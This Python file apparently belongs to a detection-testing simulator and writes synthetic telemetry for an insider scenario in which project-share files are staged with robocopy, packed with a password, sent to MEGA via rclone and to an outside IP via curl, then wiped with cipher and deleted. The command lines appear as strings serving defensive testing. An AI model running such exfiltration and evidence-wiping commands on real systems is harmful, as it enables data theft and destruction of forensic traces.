"""Somebody from within packs the files of a share and carries them off."""

from tocsin.sources.simulator.actors import KERBEROS
from tocsin.sources.simulator.attack import Move, Playing
from tocsin.sources.simulator.shares import READ, Share
from tocsin.sources.simulator.text import escaped

MOVES = (
    Move("Far more files of a share are read than ever before", "TA0009", "T1039", "correlation"),
    Move("They are packed with a password", "TA0009", "T1560.001"),
    Move("Rclone copies the archive to a cloud", "TA0010", "T1567.002"),
    Move("A second part goes out by curl", "TA0010", "T1567"),
    Move("The free space is overwritten", "TA0040", "T1485"),
    Move("The staged files are deleted", "TA0005", "T1070.004"),
)

_PROJECTS = Share(escaped("\\\\*\\projects"), escaped("\\??\\D:\\Shares\\projects"))
_FILES = 60


def play(playing: Playing) -> None:
    """Write the whole scenario."""
    recorder, fleet = playing.recorder, playing.fleet
    victim = playing.pick(fleet.workstations or fleet.hosts, "insider")
    server = fleet.servers[playing.number % len(fleet.servers)]
    shell = playing.start(0, victim, playing.desktop_of(victim, 2400), "cmd", '"C:\\Windows\\system32\\cmd.exe" ')
    session = recorder.logged_on(playing.at(28), server, victim.owner, KERBEROS, address=victim.address)
    playing.begin(MOVES, 1)
    staged = f"C:\\Users\\{victim.owner.folder}\\AppData\\Local\\Temp\\stage"
    playing.start(30, victim, shell, "robocopy", f"robocopy  \\\\{server.name}\\projects {staged} /S /MT:16")
    for number in range(_FILES):
        path = escaped(f"bids\\2026\\{number:03d}\\offer-{number * 7 % 100:02d}.xlsx")
        moment = playing.at(31 + number * 1.5)
        recorder.share_file_checked(moment, server, session, victim.address, _PROJECTS, path, READ)
    playing.begin(MOVES, 2)
    packed = f"{staged}\\b.7z"
    pack = f'"C:\\Program Files\\7-Zip\\7z.exe" a -mhe=on -pSpring26 {packed} {staged}\\*'
    playing.start(300, victim, shell, "7z", pack)
    playing.begin(MOVES, 3)
    cloud = "g.api.mega.co.nz"
    copy = f"rclone.exe  copy {packed} mega:backup --config C:\\ProgramData\\sync\\r.conf --no-check-certificate"
    tool = playing.start(600, victim, shell, "rclone", copy)
    playing.look_up(600.6, victim, tool, cloud, "203.0.113.90")
    playing.connect(600.8, victim, tool, "203.0.113.90", 443)
    playing.begin(MOVES, 4)
    upload = f"curl.exe  -k -F file=@{staged}\\b2.7z https://203.0.113.91/upload"
    playing.connect(1501, victim, playing.start(1500, victim, shell, "curl", upload), "203.0.113.91", 443)
    playing.begin(MOVES, 5)
    playing.start(1900, victim, shell, "cipher", "cipher  /w:C:\\Users")
    playing.begin(MOVES, 6)
    delete = f'"C:\\Windows\\system32\\cmd.exe" /c del /f /q /s {staged}\\*'
    playing.start(2100, victim, shell, "cmd", delete)
    playing.pause()
    recorder.logged_off(playing.at(2110), server, session, KERBEROS)
